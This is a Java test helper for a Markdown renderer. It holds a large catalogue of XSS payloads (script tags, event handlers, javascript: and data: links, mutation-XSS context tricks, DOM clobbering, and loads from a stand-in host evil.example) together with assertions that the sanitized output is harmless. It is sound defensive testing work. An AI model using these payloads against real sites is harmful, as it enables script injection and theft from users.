package antipode.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import module java.base;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/// What people have tried, by kind, and what must be true of the answer.
final class Payloads {
    static final Map<String, List<String>> BY_KIND = new LinkedHashMap<>();

    private static final Set<String> ELEMENTS = Set.of(
            "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div",
            "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "ins", "kbd",
            "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strike", "strong",
            "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "ul", "var", "wbr");
    private static final Set<String> ATTRIBUTES = Set.of(
            "align", "alt", "aria-label", "checked", "class", "colspan", "data-lines", "dir", "disabled", "height", "href", "id", "lang",
            "loading", "name", "open", "rel", "rowspan", "src", "start", "title", "type", "value", "width");

    static {
        BY_KIND.put("script", List.of(
                "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
                "<script>alert(1)", "</p><script>alert(1)</script><p>", "<script type=\"text/plain\">x</script><script>alert(1)</script>",
                "<script src=data:text/javascript,alert(1)></script>", "<svg><script>alert(1)</script></svg>",
                "<svg><script href=data:,alert(1) />", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<script>\n\nalert(1)\n\n</script>", "a\n<script>\nb\n", "<ScRiPt>alert(1)</sCrIpT>"));
        BY_KIND.put("handlers", List.of(
                "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>",
                "<a href=x onclick=alert(1)>x</a>", "<a href=x ONMOUSEOVER=alert(1)>x</a>", "<details open ontoggle=alert(1)>x</details>",
                "<div onpointerenter=alert(1)>x</div>", "<p style=x onfocus=alert(1) tabindex=0>", "<b/onmouseover=alert(1)>x",
                "<table background=javascript:alert(1) onload=x><tr><td>", "<img src=`x` onerror=`alert(1)`>", "<a/href=\"x\"\u000Conclick=alert(1)>x</a>",
                "<img src=x:x onerror=alert(1)//", "<p id=x onclick=alert(1)", "<img \"\"\"><img src=x onerror=alert(1)>\">",
                "<a on\u0000click=alert(1) href=x>x</a>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
                "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<input onfocus=alert(1) autofocus>"));
        BY_KIND.put("addresses", List.of(
                "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](javascript&colon;alert(1))",
                "[x](&#106;avascript:alert(1))", "[x](&#x6A&#x61vascript:alert(1))", "[x](  javascript:alert(1))", "[x](\u0001javascript:alert(1))",
                "![x](javascript:alert(1))", "![x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:text/html,<script>alert(1)</script>)",
                "[x](vbscript:msgbox(1))", "<javascript:alert(1)>", "<data:text/html,x>", "[x]: javascript:alert(1)\n\n[x]",
                "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=&#106&#97&#118&#97script:alert(1)>x</a>", "<a href='&#14; javascript:alert(1)'>x</a>",
                "<a href=\"javascript:&#x2f;&#x2f;%0aalert(1)\">x</a>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img src=blob:x>",
                "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"javascript\uFF1Aalert(1)\">x</a>", "<a href=\"view-source:javascript:1\">x</a>",
                "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", "<a href=x ping=//evil.example>x</a>", "<img srcset=\"javascript:alert(1) 2x\" src=x>",
                "[x](\\\\evil.example)", "[x](//evil.example)", "<a xlink:href=javascript:alert(1)>x</a>"));
        BY_KIND.put("frames and forms", List.of(
                "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>", "<input type=submit formaction=javascript:alert(1)>",
                "<button formaction=javascript:alert(1)>x", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<frameset><frame src=javascript:alert(1)></frameset>", "<applet code=x></applet>",
                "<textarea><img src=x onerror=alert(1)></textarea>", "<select><option>x</select>", "<dialog open>x</dialog>", "<portal src=x>",
                "<input type=checkbox>", "<input type=password name=pass>", "<keygen>", "<isindex type=image src=1 onerror=alert(1)>"));
        BY_KIND.put("styles", List.of(
                "<style>*{background:url(//evil.example)}</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=position:fixed;inset:0>x</p>",
                "<div class=\"modal overlay\">x</div>", "<style>@import '//evil.example';</style>", "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
                "<font color=red size=99>x</font>", "<p class=frame-header id=menu>x</p>"));
        BY_KIND.put("changing contexts", List.of(
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<svg><foreignObject><iframe onload=alert(1)>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
                "<plaintext><b>x", "<!--><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>", "<table><img src=x onerror=alert(1)><tr><td></table>",
                "<p><table><p><a href=x><table><a href=y>z", "<a href=x><a href=y><b><p></b></a>", "<b><i><p></b></i>", "<select><template><img src=x onerror=alert(1)>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "</div></section></main></body></html><script>alert(1)</script>",
                "<li><p><li><ul><td><tr>", "<pre>\n\n<code></pre>x</code>", "<ruby><rt><table><rp>x"));
        BY_KIND.put("names", List.of(
                "<a id=document name=cookie>x</a>", "<img name=body src=x>", "<a id=location href=//evil.example>x</a>", "# location\n\n# document", "<p id=user-content-x id=y>",
                "<h1 id=\"x y\">", "<form id=x><input name=innerHTML></form>", "<a name=attributes>", "<p data-lines=1-2 data-hx-get=/x hx-get=/x>", "<div role=alert aria-live=assertive>x"));
        BY_KIND.put("our own signs", List.of(
                "\uE000i\uE001#1\uE002", "\uE000u\uE001<img src=x onerror=alert(1)>\uE002", "&#xE000;i&#xE001;<b>x&#xE002;", "&#57344;i&#57345;x&#57346;",
                "<p class=\"&#xE003;frame\" id=\"&#xE003;menu\">x", "<p class=\"&#x10000E003;frame\">x", "<input type=\"\uE003checkbox\">", "<p id=\"&#4295024643;menu\">x",
                "`\uE000`", "[x](\uE003javascript:alert(1))", "[x](&#xE003;javascript:alert(1))", "![\uE00F](x)", "a&#xE00F;b", "@ana\uE002<b>", "#1\uE001&#xE002;", "~\"<img src=x onerror=alert(1)>\""));
        BY_KIND.put("markup against markup", List.of(
                "[<img src=x onerror=alert(1)>](x)", "![\"onerror=alert(1) x=\"](x)", "![x](x \"onerror=alert(1)\")", "[x](x 'a\"onmouseover=\"alert(1)')",
                "[x](\"onmouseover=\"alert(1))", "```\"><script>alert(1)</script>\nx\n```", "``` \"onload=alert(1)\nx\n```", "`<script>alert(1)</script>`",
                "[^<script>]\n\n[^<script>]: x", "[^\"onclick=alert(1)]: <script>\n\n[^\"onclick=alert(1)]", "> [!NOTE] <img src=x onerror=alert(1)>\n> x", "> [!NOTE] \"><script>\n",
                "| <script> | \" onclick=x |\n|:-:|---|\n| <img src=x onerror=alert(1)> | \\| |", "- [ ] <script>alert(1)</script>", "# <img src=x onerror=alert(1)>", "# \" onclick=alert(1) x=\"",
                "https://x.example/\"onmouseover=\"alert(1)", "www.x.example/<script>", "a@b.example\"onclick=x", "~~<script>~~", "---\ntitle: <script>\n---\nx",
                "[a]: <x> \"</a><script>alert(1)</script>\"\n\n[a]", "<a href=\"x\">[y](z)</a>", "<https://x.example/\"><script>alert(1)</script>>", "\\<script>alert(1)\\</script>"));
    }

    private Payloads() {}

    static List<String> all() {
        return BY_KIND.values().stream().flatMap(List::stream).toList();
    }

    static void assertHarmless(String kept, String payload) {
        var html = Markdown.unresolved(kept);
        assertThat(html).as(payload).doesNotContain("\uE000", "\uE001", "\uE002", "\uE003", "\uE00F", "\0");
        var document = parse(html);
        for (Element element : document.body().select("*")) {
            if (element == document.body()) continue;
            assertThat(ELEMENTS).as(payload + " → " + html).contains(element.tagName());
            for (Attribute attribute : element.attributes()) check(element, attribute, payload + " → " + html);
        }
        document.traverse((node, depth) -> assertThat(node).as(payload).isNotInstanceOf(Comment.class));
        assertThat(document.head().childNodes()).as(payload).isEmpty();
    }

    private static void check(Element element, Attribute attribute, String said) {
        var name = attribute.getKey();
        var value = attribute.getValue();
        assertThat(ATTRIBUTES).as(said).contains(name);
        switch (name) {
            case "href", "src" -> {
                var plain = value.replaceAll("[\\p{Cntrl}\\s]", "").toLowerCase(Locale.ROOT);
                assertThat(plain).as(said).matches("(?s)(https?:|mailto:|tel:|[^:]*$|[^:/?#]*[/?#].*).*");
                assertThat(plain).as(said).doesNotStartWith("javascript:").doesNotStartWith("data:");
                if (name.equals("href") && plain.matches("(https?:|//|\\\\\\\\).*")) assertThat(element.attr("rel")).as(said).contains("noopener");
            }
            case "id", "name" -> assertThat(value).as(said).matches("(?s)(user-content-|fn-|fnref-).*");
            case "class" -> assertThat(value).as(said).matches("(?s)language-\\S+|task|task-item|alert alert-\\w+|alert-title|footnotes|footnote-ref|footnote-backref");
            case "type" -> assertThat(element.outerHtml()).as(said).contains("checkbox").contains("disabled");
            case "data-lines" -> assertThat(value).as(said).matches("\\d+-\\d+");
            default -> {}
        }
    }

    static Document parse(String html) {
        var document = Jsoup.parse("<!doctype html><html><head></head><body>" + html + "</body></html>");
        document.outputSettings(new Document.OutputSettings().prettyPrint(false));
        return document;
    }
}
